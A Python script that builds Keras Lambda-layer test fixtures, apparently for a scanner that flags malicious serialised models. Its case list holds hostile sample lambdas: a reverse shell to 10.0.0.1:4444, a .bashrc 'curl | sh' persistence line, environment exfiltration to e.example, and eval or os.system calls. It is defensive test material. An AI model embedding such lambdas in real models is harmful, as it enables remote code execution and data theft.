# Prints, as JSON, the Keras serialisation of the Lambda functions that the
# Keras fixtures embed: marshal.dumps of each lambda's code object, base64
# encoded exactly as Keras' func_dump does (codecs.encode(raw, "base64"):
# 76 columns and a trailing newline), with its defaults and closure.
# Run by keras.py under every CPython 3.6-3.13 (pyenv). Nothing here is
# ever called: the lambdas are only compiled. Python 3.6-compatible.
import codecs
import json
import marshal
import sys

CASES = [
    # harmless tensor math (KERAS-100)
    ("benign_mul", "lambda x: x * 2"),
    ("benign_tf", "lambda x: tf.reduce_sum(tf.square(x), axis=-1, keepdims=True)"),
    ("benign_closure", "def make(scale):\n    return lambda x, axis=-1: K.l2_normalize(x, axis=axis) * scale\nf = make(2.0)"),
    ("benign_ops", "lambda t: keras.ops.concatenate([t[0], t[1][:, ::2]], axis=-1)"),
    # one per M indicator (KERAS-101)
    ("m1_eval", "lambda x: eval('1+1') or x"),
    ("m2_import", "lambda x: __import__('subprocess') and x"),
    ("m3_os_system", "lambda x: os.system('id') or x"),
    ("m4_reverse_shell", "lambda x: (__import__('socket').socket().connect(('10.0.0.1', 4444)), __import__('os').dup2(0, 0), x)[-1]"),
    ("m5_marshal", "lambda x: marshal.loads(codecs.decode(b'4w==', 'base64')) or x"),
    ("m6_decode_exec", "lambda x: eval(__import__('base64').b64decode('MSsx')) or x"),
    ("m7_reflection", "lambda x: getattr(x, 'ev' + 'al')('1+1')"),
    ("m8_unsafe_mode", "lambda x: keras.config.enable_unsafe_deserialization() or x"),
    ("m9_bashrc", "lambda x: open('/home/u/.bashrc', 'a').write('curl e.example | sh') or x"),
    ("m10_exfil", "lambda x: __import__('urllib.request').request.urlopen('http://e.example/?' + os.environ['HOME']) or x"),
    # one per S indicator (KERAS-102), plus an unrecognised reference
    ("s1_environ", "lambda x: x * float(os.getenv('SCALE', '1'))"),
    ("s2_decode", "lambda x: x + len(codecs.decode('YWJj', 'base64'))"),
    ("s3_url", "lambda x: x + len('http://evil.example/beacon')"),
    ("s4_dunder", "lambda x: x.__class__.__name__ and x"),
    ("s5_listdir", "lambda x: x * len(os.listdir('.'))"),
    ("s6_cwd", "lambda x: x if os.getcwd() else x"),
    ("s7_sleep", "lambda x: time.sleep(1) or x"),
    ("s8_ctypes", "lambda x: x + ctypes.sizeof(ctypes.c_int)"),
    ("s9_blob", "lambda x: x + len('" + "Zm9vYmFy" * 40 + "')"),
    ("u1_unknown", "lambda x: foo.bar(x)"),
    # a bare name that only Keras 2's "module" namespace binds
    ("k2_bare_system", "lambda x: system('id') or x"),
    # a named function where a lambda belongs (KERAS-103)
    ("named_function", "def payload(x):\n    return x * 2\nf = payload"),
]


def compile_case(src):
    if src.startswith("lambda"):
        return eval(compile(src, "<stdin>", "eval"), {})
    ns = {}
    exec(compile(src, "<stdin>", "exec"), ns)
    return ns["f"]


def main():
    out = {}
    for name, src in CASES:
        fn = compile_case(src)
        raw = marshal.dumps(fn.__code__)
        entry = {"code": codecs.encode(raw, "base64").decode("ascii"), "defaults": None, "closure": None}
        if fn.__defaults__:
            entry["defaults"] = list(fn.__defaults__)
        if fn.__closure__:
            entry["closure"] = [c.cell_contents for c in fn.__closure__]
        out[name] = entry
    json.dump(out, sys.stdout, sort_keys=True, indent=1)
    sys.stdout.write("\n")


main()
